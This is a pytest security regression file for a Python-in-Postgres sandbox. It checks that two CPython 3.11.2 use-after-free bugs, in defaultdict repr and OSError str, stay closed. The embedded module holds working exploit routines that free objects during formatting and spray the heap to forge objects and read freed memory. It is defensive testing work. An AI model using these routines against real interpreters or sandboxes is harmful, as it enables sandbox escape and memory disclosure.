"""Round 83: C formatting code of CPython 3.11.2 that holds an object borrowed from a field a
routine can change, while the routine's code runs:

* `defaultdict.__repr__` calls `Py_ReprLeave(default_factory)` even where `Py_ReprEnter`
  said the factory is being formatted already, by someone else: a `default_factory` set to
  a list whose repr is under way (the field takes any object) takes that list's entry out
  of the thread's repr list, the only thing holding it; dropping the factory then frees the
  list while `list.__repr__` walks it, and its item array, refilled with a routine's bytes,
  hands C pointers of the routine's choosing as objects (a forged-object primitive).
* `OSError.__str__` passes its `errno`, `strerror` and `filename` members borrowed to
  `PyUnicode_FromFormat`, which formats them one after the other: an `errno` whose `__str__`
  sets `strerror` frees the next one before C formats it, and the message shows whatever
  took its memory.

Both closed: defaultdict's `__repr__` and OSError's `__str__` are Python's on the types,
holding what C uses (bounded.hold_default_factories, bounded.hold_os_error_members).

Promises attacked: no way out of pure computation / to the interpreter's memory (1), no
crash of the cluster (5). A passing test: the promise held."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import psycopg
import pytest

from pyfuncs.embedded import Cluster

from .conftest import connect_mallory, deployed_for_mallory, timed, value

MODULE = '''
import struct
from collections import defaultdict
from pyfuncs import stored_function

_KEPT = []  # what must never be freed in this backend


class _Dict(defaultdict):
    """A defaultdict of the module's own: its attributes are the routine's to set."""


@stored_function(schema="r83r")
def repr_freed() -> str:
    """A list freed while list.__repr__ walks it (defaultdict's __repr__ leaving the list's
    entry in the repr list), its item array refilled with pointers to a str of the
    routine's: the repr shows that str where the list's items were."""
    target = "TARGET-CHOSEN-BY-ADDRESS"
    spray = []
    factory_of = _Dict()
    box = {}
    # what takes the freed memory, made before it is freed: an array of pointers to the
    # target (the list's item array's size class), and a list header (ob_size 16, ob_item
    # that array's address) in the list object's
    array = struct.pack("<Q", id(target)) * 12 + bytes(8)
    header = struct.pack("<qQq", 16, id(array), 16) + bytes(8)

    class Trigger:
        def __repr__(self):
            holder.clear()  # the list: held by the thread's repr list only
            factory_of.default_factory = box.pop("victim")
            repr(factory_of)  # Enter(list) == 1: "..."; Leave(list) takes its entry out
            junk = [[] for _ in range(100)]  # list's free list full: a list freed now goes
            del junk  # back to the allocator
            factory_of.default_factory = None  # the list and its item array freed
            for i in range(100):
                spray.append(header[: 31 - (i % 2)] + b"x" * (i % 2))
                spray.append(array[: 95 - (i % 2)] + b"x" * (i % 2))
            return "T"

    victim = [0, 1, 2, Trigger(), 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15]
    box["victim"] = victim
    holder = [victim]
    del victim
    shown = repr(holder)
    _KEPT.append(spray)
    return shown


@stored_function(schema="r83r")
def defaultdict_reprs() -> list[str]:
    """defaultdict's repr as routines see it: a factory, none, itself, nested."""
    a = defaultdict(list, {"k": 1})
    b = defaultdict(None, {"k": 1})
    c = _Dict(int)
    c.default_factory = c
    d = defaultdict(list)
    d["x"] = defaultdict(int, {"y": 2})
    return [repr(a), repr(b), repr(c), repr(d)]


@stored_function(schema="r83r")
def oserror_freed() -> str:
    """OSError.__str__ with an errno whose __str__ drops strerror (held by the error only):
    the message formats what took strerror's memory."""
    spray = []
    error = OSError()
    error.strerror = "".join(["strerror-", "x" * 40])

    class Errno:
        def __str__(self):
            error.strerror = None
            for i in range(100):
                spray.append(bytes([65 + i % 26]) * 72)
            return "13"

    error.errno = Errno()
    shown = str(error)
    _KEPT.append(spray)
    return shown


@stored_function(schema="r83r")
def oserror_messages() -> list[str]:
    """OSError's messages as routines see them."""
    out = [str(OSError(2, "No such file", "a.txt")), str(OSError(2, "No such file")),
           str(OSError("plain")), str(OSError(1, "x", "a", None, "b"))]  # fmt: skip
    e = FileNotFoundError(2, "gone", "f")
    out.append(str(e))
    e.filename = None
    out.append(str(e))
    return out
'''


@pytest.fixture
def r83r(dsn: str, conn: psycopg.Connection[Any], cluster: Cluster, tmp_path: Path,
        mallory_role: str) -> Any:  # fmt: skip
    with deployed_for_mallory(conn, cluster, tmp_path / "r83_repr.py", MODULE, "r83r"):
        yield dsn


_connect = connect_mallory


def test_a_list_is_not_freed_while_its_repr_walks_it(r83r: str) -> None:
    """repr([victim]) where an item of victim's repr sets a defaultdict's factory to victim,
    formats that defaultdict and drops the factory: victim's repr shows its own items, never
    objects at addresses the routine wrote into freed memory."""
    with _connect(r83r) as c:
        got, _ = timed(c, "SELECT r83r.repr_freed()")
        print(got)
        if isinstance(got, psycopg.Error):
            assert "crashed" not in str(got), got
            return
        assert "TARGET-CHOSEN-BY-ADDRESS" not in got[0], f"a forged object's repr: {got[0]}"


def test_defaultdict_reprs_as_before(r83r: str) -> None:
    """A defaultdict's repr as C's, but for one whose factory is itself: C showed the inner
    dict as `{...}` because its repr had taken the outer's mark away (the bug above); the
    factory shown inside its own repr is `...` either way."""
    with _connect(r83r) as c:
        got = value(c, "SELECT r83r.defaultdict_reprs()")
    assert got[0] == "defaultdict(<class 'list'>, {'k': 1})", got
    assert got[1] == "defaultdict(None, {'k': 1})", got
    assert got[2] == "_Dict(_Dict(..., {}), {})", got
    assert got[3] == "defaultdict(<class 'list'>, {'x': defaultdict(<class 'int'>, {'y': 2})})"


def test_an_oserror_message_formats_only_its_own_members(r83r: str) -> None:
    """str(OSError) whose errno's __str__ frees strerror: the message never shows an object
    that took strerror's memory."""
    with _connect(r83r) as c:
        got, _ = timed(c, "SELECT r83r.oserror_freed()")
        print(got)
        if isinstance(got, psycopg.Error):
            assert "crashed" not in str(got), got
            return
        assert "AAAA" not in got[0] and "b'" not in got[0], f"a freed member formatted: {got[0]}"


def test_oserror_messages_as_before(r83r: str) -> None:
    with _connect(r83r) as c:
        assert value(c, "SELECT r83r.oserror_messages()") == [
            "[Errno 2] No such file: 'a.txt'",
            "[Errno 2] No such file",
            "plain",
            "[Errno 1] x: 'a' -> 'b'",
            "[Errno 2] gone: 'f'",
            "[Errno 2] gone: None",
        ]
